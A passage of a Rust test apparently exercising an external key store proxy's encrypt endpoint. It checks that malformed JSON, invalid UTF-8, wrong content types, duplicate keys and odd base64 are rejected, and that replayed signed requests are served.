    let dup = br#"{"requestMetadata":{"kmsOperation":"Encrypt","kmsRequestId":"a"},"plaintext":"AAAA","plaintext":"BBBB","encryptionAlgorithm":"AES_GCM"}"#.to_vec();
    let mut b64 = encrypt_body();
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("deeply nested", nested.into_bytes(), "application/json"),
        ("invalid UTF-8", bad_utf8, "application/json"),
        ("wrong Content-Type", ok.clone(), "text/plain"),
        ("duplicate keys", dup, "application/json"),
        (
            "base64url",
            {
                b64["plaintext"] = json!("-_-_");
                serde_json::to_vec(&b64).unwrap()
            },
            "application/json",
        ),
        (
            "base64 without padding",
            {
                b64["plaintext"] = json!("AAE");
                serde_json::to_vec(&b64).unwrap()
            },
            "application/json",
        ),
        (
            "base64 with whitespace",
            {
                b64["plaintext"] = json!("AA AA");
                serde_json::to_vec(&b64).unwrap()
            },
            "application/json",
        ),
    ];
    for (what, body, ct) in cases {
        let (s, v) = h2_post(rig, ENCRYPT, body, ct).await;
        assert_eq!(
            (s, v["errorName"].as_str()),
            (400, Some("ValidationException")),
            "{what}: {v}"
        );
    }
    // A replayed request (same signature, within the 5-minute skew) is valid SigV4: it is
    // served, and counts against the key store's rate like any other (see reliability.md).
    let host = host(rig.xks.addr);
    let headers = signed_headers(&host, SECRET, ENCRYPT, &ok, "application/json");
    for _ in 0..3 {
        let r = rig
            .client
            .send("POST", ENCRYPT, headers.clone(), ok.clone())
            .await
            .unwrap();
        assert_eq!(r.status, 200, "{:?}", r.body);
    }
}

#[test]
fn hostile_network() {
    let rig = rig();
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async {
        answers(&rig).await;
        suite(&rig).await;
    });
}
